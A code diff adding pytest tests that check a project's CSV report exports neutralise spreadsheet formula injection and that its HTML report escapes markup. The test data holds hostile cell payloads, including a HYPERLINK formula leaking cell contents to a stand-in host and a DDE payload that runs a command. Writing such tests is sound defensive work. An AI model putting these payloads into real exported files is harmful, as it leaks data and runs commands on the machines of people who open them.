@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import math
 import os
+import re
 import subprocess
 import sys
 from datetime import datetime, timedelta
@@ -619,3 +620,45 @@ def test_export_reports_command(add_posting, warehouse_conn, tmp_path):
     completed = subprocess.run([CLI, "export-reports"], capture_output=True, text=True, env=env, timeout=120)
     assert completed.returncode == 0, completed.stderr
     assert (tmp_path / "from-env" / "report.html").is_file()
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3",
+    "\tSUM(1)",
+    "\rSUM(1)",
+]
+
+
+def test_csv_exports_neutralise_formulas_and_the_page_stays_escaped(warehouse_conn, tmp_path):
+    import csv
+
+    taxonomy_id = '=HYPERLINK("http://evil.example")<b>'
+    for role in HOSTILE_CELLS:
+        add_posting(warehouse_conn, taxonomy_id, datetime(2022, 1, 10), job_role=role)
+    refresh(warehouse_conn)
+    files = write_reports(warehouse_conn, tmp_path)
+    cells = set()
+    for path in files.csvs:
+        with path.open(encoding="utf-8", newline="") as file:
+            cells.update(cell for row in csv.reader(file) for cell in row)
+    # OWASP: no cell may start with = + - @ tab or CR, but numbers (a negative difference) stay numbers.
+    formulas = {cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")}
+    assert all(re.fullmatch(r"-[0-9.]+(e-?[0-9]+)?", cell) for cell in formulas), formulas
+    assert {"'" + role for role in HOSTILE_CELLS} <= cells  # the text kept, behind a quote
+    assert "'" + taxonomy_id in cells
+    page = files.html.read_text(encoding="utf-8")
+    assert "<b>" not in page and "=HYPERLINK(&quot;http://evil.example&quot;)&lt;b&gt;" in page
+
+
+@pytest.mark.parametrize(("umask", "mode"), [(0o077, 0o600), (0o022, 0o644)])
+def test_report_files_follow_the_umask(warehouse_conn, tmp_path, umask, mode):
+    refresh(warehouse_conn)
+    previous = os.umask(umask)
+    try:
+        files = write_reports(warehouse_conn, tmp_path)
+    finally:
+        os.umask(previous)
+    assert {oct(path.stat().st_mode & 0o777) for path in [files.html, *files.csvs]} == {oct(mode)}
